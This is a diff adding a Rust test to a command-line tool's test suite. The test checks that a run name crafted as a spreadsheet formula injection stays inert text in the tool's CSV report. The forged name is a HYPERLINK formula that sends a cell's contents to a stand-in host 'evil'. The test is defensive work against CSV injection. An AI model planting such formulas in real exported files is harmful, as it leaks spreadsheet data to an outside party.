@@ -720,3 +720,36 @@ fn a_record_of_thousands_of_event_files_reads_under_a_low_open_file_limit() {
     assert!(out.status.success(), "{}", text(&out.stderr));
     assert!(text(&out.stdout).contains("run1"), "{}", text(&out.stdout));
 }
+
+#[test]
+fn a_run_name_made_to_inject_a_spreadsheet_formula_stays_text_in_the_csv() {
+    let t = tmp();
+    let dir = t.path().join("rec");
+    record(t.path(), &dir, None, &[]);
+    // A name with a formula, a comma, quotes and a newline (a manifest anyone shares).
+    let ev = dir.join("events/1.main.jsonl");
+    let forged = std::fs::read_to_string(&ev).unwrap().replace(
+        "\"run1\"",
+        r#""=HYPERLINK(\"http://evil/?\"&A1,\"open\"),1\n@2""#,
+    );
+    std::fs::write(&ev, forged).unwrap();
+    let out = output(colloc(t.path()).args(["report", "--csv"]).arg(&dir));
+    assert!(out.status.success(), "{}", text(&out.stderr));
+    let out2 = output(colloc(t.path()).args(["report", "-q"]).arg(&dir));
+    assert!(out2.status.success(), "{}", text(&out2.stderr));
+    let written = std::fs::read(dir.join("colloc-runs.csv")).unwrap();
+    for csv in [out.stdout, written] {
+        let mut r = csv::Reader::from_reader(csv.as_slice());
+        let width = r.headers().unwrap().len();
+        let rows: Vec<csv::StringRecord> = r.records().map(Result::unwrap).collect();
+        assert_eq!(rows.len(), 1, "{}", text(&csv));
+        assert_eq!(rows[0].len(), width);
+        assert_eq!(
+            &rows[0][0],
+            "'=HYPERLINK(\"http://evil/?\"&A1,\"open\"),1\n@2"
+        );
+        for cell in rows[0].iter() {
+            assert!(!cell.starts_with(['=', '+', '@']), "{cell}");
+        }
+    }
+}
